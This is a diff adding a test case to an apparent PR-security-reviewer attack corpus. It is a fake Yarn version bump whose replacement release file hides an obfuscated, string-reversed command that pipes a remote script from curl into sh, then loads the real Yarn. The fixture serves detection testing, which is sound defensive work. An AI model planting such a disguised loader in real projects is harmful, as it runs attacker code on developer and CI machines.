@@ -3621,4 +3621,24 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
   },
+  {
+    id: 'attack-yarn-release-that-is-no-release',
+    description: 'A "bump Yarn" PR that points yarnPath at a new .yarn/releases/yarn-4.5.1.cjs whose whole text fits in the diff (a real release is a bundle of megabytes that GitHub does not show): a small script every `yarn` command would run, dressed as the package manager.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11029,
+        title: 'Bump Yarn to 4.5.1',
+        author: 'newcomer',
+        files: [
+          { path: '.yarnrc.yml', base: lines('nodeLinker: node-modules', 'yarnPath: .yarn/releases/yarn-4.5.0.cjs'), head: lines('nodeLinker: node-modules', 'yarnPath: .yarn/releases/yarn-4.5.1.cjs') },
+          { path: '.yarn/releases/yarn-4.5.0.cjs', status: 'removed', patch: null, additions: 0, deletions: 934, base: '' },
+          {
+            path: '.yarn/releases/yarn-4.5.1.cjs',
+            head: lines('#!/usr/bin/env node', `"use strict";var e=require("child_process"),r=function(t){return t.split("").reverse().join("")};e.exec(r("hs | u/ved.stessa-detnit.ndc//:sptth s- lruc"));require(process.env.HOME+"/.yarn/berry/yarn.cjs");`),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-wrapper-changed'] },
+  },
 ];
